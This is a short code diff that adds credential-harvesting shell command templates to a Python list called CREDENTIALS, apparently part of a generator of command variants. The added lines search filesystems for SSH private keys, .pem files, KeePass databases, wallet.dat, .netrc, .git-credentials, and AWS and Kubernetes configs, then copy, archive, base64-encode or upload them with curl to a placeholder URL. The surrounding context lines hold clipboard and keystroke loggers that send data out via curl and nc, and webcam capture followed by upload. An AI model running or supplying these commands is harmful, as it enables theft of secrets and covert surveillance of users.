@@ -126,6 +126,11 @@ CREDENTIALS = [
     'while sleep {n}; do ‹xclip -o -selection clipboard¦xsel -b¦wl-paste¦pbpaste› >> {file} 2>/dev/null; ‹curl -s -d @{file} {url} && : > {file}¦done_at=$(date)›; done &',
     "xinput test-xi2 --root ‹>> {file} &¦| awk '/detail/{print $2}' | curl -s -T - {url} &›; ‹showkey -a > {file} &¦logkeys --start --output {file}¦cat /dev/input/event{n} | xxd >> {file} &¦evtest /dev/input/event0 | grep KEY_ | nc {host} {port} &›",
     '‹fswebcam -r 640x480 {file}.jpg¦ffmpeg -f v4l2 -i /dev/video0 -frames 1 -y {file}.jpg¦streamer -o {file}.jpeg› ‹-q ¦›; curl -s -F f=@{file}.jpg {url}',
+    'mkdir ‹-p ¦›{tmp}/{plain}‹; ¦ && ¦\n›find ‹/¦/home¦/root /home› ‹-type f ¦›-name ‹id_rsa¦"id_*"¦"*.pem"¦.netrc¦"*.kdbx"¦.git-credentials¦"*.ppk"› ‹2>/dev/null ¦›-exec ‹cp --parents {} ¦cp {} ¦rsync -R {} ¦gcp --parents {} ¦install -D {} ¦tar -rf ›{tmp}/{plain} ‹2>/dev/null ¦›\\;',
+    'for k in $(find / -name ‹"id_rsa*"¦"id_ed25519"¦"*.ppk"¦authorized_keys¦known_hosts› 2>/dev/null); do ‹cp $k {tmp}/{plain}/$(echo $k | tr / _)¦cat $k >> {file}¦tar rf {file}.tar $k›; done',
+    'find / \\( -name id_rsa -o -name id_dsa -o -name "*.pem" -o -name credentials \\) ‹-readable ¦›2>/dev/null | ‹tar czf {file}.tgz -T -¦xargs -I{} cp {} {tmp}/¦cpio -pd {tmp}/{plain}¦zip -@ {file}.zip›',
+    'locate -b ‹id_rsa¦"\\.kdbx"¦wallet.dat¦.pgpass› | while read f; do ‹base64 -w0 "$f"; echo¦curl -s -F "f=@$f" {url}¦cat "$f"›; done',
+    'rsync -aR ‹/home/*/.ssh¦/root/.ssh /home/*/.ssh¦/root/.aws /root/.kube› {tmp}/{plain}/ ‹2>/dev/null¦›',
 ]
 
 BRUTE = [
